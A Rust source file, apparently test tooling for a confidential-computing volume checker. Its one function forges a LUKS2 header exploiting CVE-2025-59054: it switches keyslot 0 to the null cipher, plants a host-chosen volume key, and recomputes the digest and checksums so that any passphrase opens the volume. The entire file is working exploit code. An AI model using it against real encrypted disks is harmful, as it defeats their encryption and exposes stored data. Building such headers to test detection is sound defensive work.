//! The header that a host would like to be used: a good one, changed so that any key opens the volume (CVE-2025-59054).
//!
//! Its keyslot is encrypted with the null cipher and holds a volume key of the host's choice, split as LUKS splits keys
//! (LUKS2 On-Disk Format Specification 1.1, "Anti-Forensic splitter"); the digest fits that key, and so do the checksums.
//! It is NOT the collection of bad headers that the rules are tested with: those are with `cc-volume`.

use std::num::NonZeroU32;
use std::ops::Range;
use std::path::Path;

use anyhow::Context;
use aws_lc_rs::{digest, pbkdf2};
use base64::{Engine, engine::general_purpose::STANDARD};
use serde_json::Value;

const COPY_LEN: usize = 0x4000;
const BINARY_LEN: usize = 4096;
const STRIPES: usize = 4000;
/// Where each copy of the header has its checksum (section 2.1 of the specification).
const CHECKSUM: Range<usize> = 448..512;
/// The volume key that the host chooses.
const KEY: [u8; 64] = *b"a volume key that the host knows, and whoever asks the host too!";

/// The head of the volume at `disk` with a header of the host's: from byte 0 up to the end of its first keyslot.
///
/// # Errors
/// `disk` cannot be read, or has no LUKS2 header with copies of 16 KiB and a keyslot 0 that PBKDF2 protects.
pub fn any_key_opens(disk: &Path) -> anyhow::Result<Vec<u8>> {
    let mut bytes = std::fs::read(disk).with_context(|| format!("reading {}", disk.display()))?;
    let text = part(&mut bytes, BINARY_LEN..COPY_LEN)?;
    let end = text.iter().position(|byte| *byte == 0).context("the JSON area has no end")?;
    let mut json: Value = serde_json::from_slice(part(&mut bytes, BINARY_LEN..BINARY_LEN + end)?)?;

    let slot = json.pointer_mut("/keyslots/0/area").context("there is no keyslot 0")?;
    let number = |name: &str| -> anyhow::Result<usize> {
        Ok(slot.get(name).and_then(Value::as_str).context("an area without place")?.parse()?)
    };
    let (at, length) = (number("offset")?, number("size")?);
    *slot.get_mut("encryption").context("an area without cipher")? = "cipher_null-ecb".into();

    let digest = json.pointer_mut("/digests/0").context("there is no digest 0")?;
    let salt = digest.get("salt").and_then(Value::as_str).context("a digest without salt")?;
    let rounds = digest.get("iterations").and_then(Value::as_u64).context("a digest without rounds")?;
    let rounds = NonZeroU32::new(u32::try_from(rounds)?).context("a digest of no rounds")?;
    let mut fitting = [0; 32];
    let salt = STANDARD.decode(salt)?;
    pbkdf2::derive(pbkdf2::PBKDF2_HMAC_SHA256, rounds, &salt, &KEY, &mut fitting);
    *digest.get_mut("digest").context("an empty digest")? = STANDARD.encode(fitting).into();

    let split = split();
    part(&mut bytes, at..at + split.len())?.copy_from_slice(&split);
    let text = json.to_string();
    for start in [0, COPY_LEN] {
        let copy = part(&mut bytes, start..start + COPY_LEN)?;
        part(copy, BINARY_LEN..COPY_LEN)?.fill(0);
        part(copy, BINARY_LEN..BINARY_LEN + text.len())?.copy_from_slice(text.as_bytes());
        part(copy, CHECKSUM)?.fill(0);
        let checksum = digest::digest(&digest::SHA256, copy);
        part(copy, CHECKSUM.start..CHECKSUM.start + 32)?.copy_from_slice(checksum.as_ref());
    }
    bytes.truncate(at + length);
    Ok(bytes)
}

fn part(bytes: &mut [u8], range: Range<usize>) -> anyhow::Result<&mut [u8]> {
    bytes.get_mut(range.clone()).with_context(|| format!("the volume ends before byte {}", range.end))
}

/// The key in stripes, of which all but the last one are zeros here: random in a good one.
fn split() -> Vec<u8> {
    let mut hash = [0; KEY.len()];
    for _ in 1..STRIPES {
        for (number, block) in (0_u32..).zip(hash.chunks_mut(32)) {
            let input = [&number.to_be_bytes(), &*block].concat();
            block.copy_from_slice(digest::digest(&digest::SHA256, &input).as_ref());
        }
    }
    let last = hash.iter().zip(KEY).map(|(hashed, key)| hashed ^ key);
    std::iter::repeat_n(0, KEY.len() * (STRIPES - 1)).chain(last).collect()
}
